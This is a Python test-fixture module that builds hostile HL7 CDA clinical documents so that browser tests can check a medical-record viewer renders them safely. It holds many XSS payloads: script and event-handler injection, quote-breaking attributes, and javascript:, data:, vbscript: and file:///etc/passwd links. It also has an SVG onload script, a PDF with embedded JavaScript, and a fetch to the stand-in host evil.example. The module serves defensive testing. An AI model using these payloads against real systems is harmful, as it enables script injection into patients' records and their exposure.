"""Hostile CDA documents: script and event-handler injection wherever a CDA carries text, attributes or
references; javascript:, data:, //, file: links; external, fake and nested media; PDF bodies; a huge table.

Built from a kit example (the VSM) so that everything else in them is a real document. Every payload
sets ``window.__pwned`` or fetches from ``evil.example``: the browser tests look for both.
"""

from __future__ import annotations

import base64
from pathlib import Path

from lxml import etree

from dmp_connector.xml import parse_xml

EXAMPLES = Path(__file__).resolve().parents[3] / "shared" / "cda-2025" / "ExemplesCDA"
BASE = EXAMPLES / "VSM_1.4_2022.01.xml"
V3 = "urn:hl7-org:v3"
NS = {"h": V3}
PWN = "window.__pwned=1;fetch('https://evil.example/x')"
# A 1x1 PNG: an embedded image the page must show.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>'
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"

NARRATIVE = f"""<text xmlns="{V3}" xmlns:x="http://www.w3.org/1999/xhtml">
 <paragraph onclick="{PWN}" styleCode="Bold onload=x"
  ID='p1" onmouseover="window.__pwned=1'>Texte visible un</paragraph>
 <x:script>window.__pwned=1</x:script>
 <script>window.__pwned=1</script>
 <x:img src="https://evil.example/a.png" onerror="{PWN}"/>
 <x:iframe src="javascript:{PWN}"/>
 <x:style>body{{background:url(https://evil.example/b.png)}}</x:style>
 <x:a href="javascript:{PWN}">Ancre XHTML</x:a>
 <content styleCode="Italics" onmouseover="{PWN}"
  >Texte visible deux &lt;script&gt;window.__pwned=1&lt;/script&gt;</content>
 <table onmouseover="{PWN}" border="1" style="background:url(https://evil.example/c.png)">
  <tbody><tr><td onclick="{PWN}" colspan="2&quot; onclick=&quot;x">Cellule visible</td></tr></tbody>
 </table>
 <list>
  <item><linkHtml href="javascript:{PWN}">Lien javascript</linkHtml></item>
  <item><linkHtml href=" java&#9;script:{PWN}">Lien tabulation</linkHtml></item>
  <item><linkHtml href="JaVaScRiPt:{PWN}">Lien casse</linkHtml></item>
  <item><linkHtml href="data:text/html,&lt;script&gt;{PWN}&lt;/script&gt;">Lien data</linkHtml></item>
  <item><linkHtml href="//evil.example/x">Lien protocole relatif</linkHtml></item>
  <item><linkHtml href="file:///etc/passwd">Lien fichier</linkHtml></item>
  <item><linkHtml href="vbscript:msgbox(1)">Lien vbscript</linkHtml></item>
  <item><linkHtml href="http://evil.example/">Lien http</linkHtml></item>
  <item><linkHtml href="https://evil.example/@x&quot;onmouseover=&quot;{PWN}">Lien guillemet</linkHtml></item>
  <item><linkHtml href="https://www.example.org/page?x=1" onclick="{PWN}">Lien https</linkHtml></item>
  <item><linkHtml href="#p1">Lien interne</linkHtml></item>
 </list>
 <footnote ID="n1">Note de bas de page visible</footnote><footnoteRef IDREF="n1"/>
 <footnoteRef IDREF='x" onclick="window.__pwned=1'/>
 <table styleCode="Botrule&quot; onclick=&quot;x"><caption>Légende <x:b onclick="{PWN}">gras</x:b></caption>
  <colgroup span="2&quot; onclick=&quot;x"><col span="1" onclick="{PWN}"/></colgroup>
  <thead><tr><th scope="col&quot; onclick=&quot;x">Entête visible</th></tr></thead>
 </table>
 <renderMultiMedia referencedObject='m-png" onerror="window.__pwned=1'/>
 <renderMultiMedia referencedObject="m-png m-ext m-rel m-svg m-html m-fake m-nested m-missing">
  <caption>Légende visible</caption>
 </renderMultiMedia>
</text>"""


def _media(ident: str, value: str) -> str:
    return (
        f'<entry xmlns="{V3}"><observationMedia classCode="OBS" moodCode="EVN" ID="{ident}">{value}'
        "</observationMedia></entry>"
    )


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


ENTRIES = [
    _media("m-png", f'<value mediaType="image/png" representation="B64">{_b64(PNG)}</value>'),
    _media("m-ext", '<value mediaType="image/png"><reference value="https://evil.example/i.png"/></value>'),
    _media("m-rel", '<value mediaType="image/png"><reference value="//evil.example/i.png"/></value>'),
    _media(
        "m-svg",
        '<value mediaType="image/svg+xml" representation="B64">'
        + _b64(SVG)
        + "</value>",
    ),
    _media(
        "m-html",
        '<value mediaType="text/html" representation="B64">'
        + _b64(b"<script>window.__pwned=1</script><img src=https://evil.example/h.png>")
        + "</value>",
    ),
    _media("m-fake", f'<value mediaType="image/png" representation="B64">{_b64(b"<html><script>x</script>")}</value>'),
    _media(
        "m-nested",
        '<value mediaType="text/xml" representation="B64">'
        + _b64(b'<ClinicalDocument xmlns="urn:hl7-org:v3"><observationMedia ID="in"><value mediaType="image/png">'
               b'<reference value="https://evil.example/n.png"/></value></observationMedia></ClinicalDocument>')
        + '</value><entryRelationship typeCode="COMP"><observationMedia ID="m-inner"><value mediaType="image/png">'
        '<reference value="https://evil.example/inner.png"/></value></observationMedia></entryRelationship>',
    ),
    _media("m-pdf", f'<value mediaType="application/pdf" representation="B64">{_b64(PDF)}</value>'),
]  # fmt: skip


def _base() -> etree._ElementTree:
    return parse_xml(BASE.read_bytes()).getroottree()


def _xml(text: str) -> etree._Element:
    return parse_xml(text.encode("utf-8"))


def _bytes(tree: etree._ElementTree) -> bytes:
    return etree.tostring(tree, xml_declaration=True, encoding="UTF-8")


def narrative_injection() -> bytes:
    """Hostile markup, attributes, links and media in the narrative of the first section."""
    tree = _base()
    section = tree.find(".//h:structuredBody//h:section[h:text]", NS)
    assert section is not None
    old = section.find("h:text", NS)
    assert old is not None
    new = _xml(NARRATIVE)
    old.addnext(new)
    section.remove(old)
    anchor = new
    for entry in ENTRIES:
        element = _xml(entry)
        anchor.addnext(element)
        anchor = element
    return _bytes(tree)


def header_injection() -> bytes:
    """Payloads in every header text: title, patient names, author, custodian, section titles."""
    tree = _base()
    payload = f'"><img src=x onerror="{PWN}"><script>{PWN}</script>'
    for path in (
        "h:title",
        "h:recordTarget/h:patientRole/h:patient/h:name/h:given",
        "h:recordTarget/h:patientRole/h:patient/h:name/h:family",
        "h:author/h:assignedAuthor/h:assignedPerson/h:name/h:family",
        "h:custodian/h:assignedCustodian/h:representedCustodianOrganization/h:name",
        ".//h:section/h:title",
    ):
        for element in tree.getroot().iterfind(path, NS):
            element.text = f"Valeur {payload}"
    code = tree.find("h:code", NS)
    assert code is not None
    code.set("displayName", f"Type {payload}")
    for element in tree.getroot().iter(f"{{{V3}}}id", f"{{{V3}}}setId", f"{{{V3}}}versionNumber"):
        element.set("extension" if element.get("extension") else "value", f"1{payload}")
    for element in tree.getroot().iter(f"{{{V3}}}telecom"):
        element.set("value", f"javascript:{PWN}")
    confidentiality = tree.find("h:confidentialityCode", NS)
    assert confidentiality is not None
    confidentiality.set("code", payload)
    for section in tree.getroot().iter(f"{{{V3}}}section"):
        section.set("ID", payload)
    root = tree.getroot()
    root.addprevious(etree.ProcessingInstruction("xml-stylesheet", f'type="text/xsl" href="javascript:{PWN}"'))
    return _bytes(tree)


def non_xml_body(text: str) -> bytes:
    """The base document with its body replaced by a ``nonXMLBody`` holding ``text``."""
    tree = _base()
    component = tree.find("h:component", NS)
    assert component is not None
    for child in list(component):
        component.remove(child)
    component.append(_xml(f'<nonXMLBody xmlns="{V3}">{text}</nonXMLBody>'))
    return _bytes(tree)


def pdf_body() -> bytes:
    """A level-1 document whose PDF carries JavaScript: offered as an attachment, never framed."""
    return non_xml_body(f'<text mediaType="application/pdf" representation="B64">{_b64(PDF)}</text>')


def html_body() -> bytes:
    """A level-1 document claiming text/html: never rendered."""
    script = _b64(b"<script>window.__pwned=1</script>")
    return non_xml_body(f'<text mediaType="text/html" representation="B64">{script}</text>')


def referenced_body() -> bytes:
    """A level-1 document whose body is a remote reference: never fetched."""
    return non_xml_body('<text mediaType="application/pdf"><reference value="https://evil.example/doc.pdf"/></text>')


def huge_table(rows: int = 2000, columns: int = 8) -> bytes:
    """One section with a table of ``rows`` × ``columns`` cells (each text unique)."""
    tree = _base()
    section = tree.find(".//h:structuredBody//h:section[h:text]", NS)
    assert section is not None
    old = section.find("h:text", NS)
    assert old is not None
    body = "".join("<tr>" + "".join(f"<td>L{r}C{c}</td>" for c in range(columns)) + "</tr>" for r in range(rows))
    head = "<tr>" + "".join(f"<th>Colonne {c}</th>" for c in range(columns)) + "</tr>"
    new = _xml(f'<text xmlns="{V3}"><table><thead>{head}</thead><tbody>{body}</tbody></table></text>')
    old.addnext(new)
    section.remove(old)
    return _bytes(tree)


HOSTILE = {
    "narrative": narrative_injection,
    "header": header_injection,
    "pdf-body": pdf_body,
    "html-body": html_body,
    "referenced-body": referenced_body,
    "huge-table": huge_table,
}
"""Every hostile document, by name."""
